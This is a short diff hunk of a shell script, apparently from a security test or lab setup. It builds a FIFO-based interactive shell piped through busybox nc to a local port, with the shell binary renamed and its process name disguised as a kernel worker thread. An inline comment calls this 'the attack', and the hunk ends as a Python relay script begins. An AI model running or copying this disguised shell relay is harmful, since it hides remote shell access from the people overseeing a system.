@@ -14,7 +14,7 @@ own_folder /mnt
 cp "$(readlink -f /bin/sh)" "$work/kworker"
 cp "$(readlink -f /bin/bash)" /mnt/agent
 mkfifo "$work/f"
-# shellcheck disable=SC2002 # the cat is part of the attack
+# shellcheck disable=SC2002,SC2094 # the cat and the FIFO are the attack
 cat "$work/f" | (exec -a '[kworker/0:1]' "$work/kworker" -i) 2>&1 | busybox nc 127.0.0.1 "$port" >"$work/f"
 cat >"$work/relay.py" <<'PYTHON'
 import socket, subprocess, sys
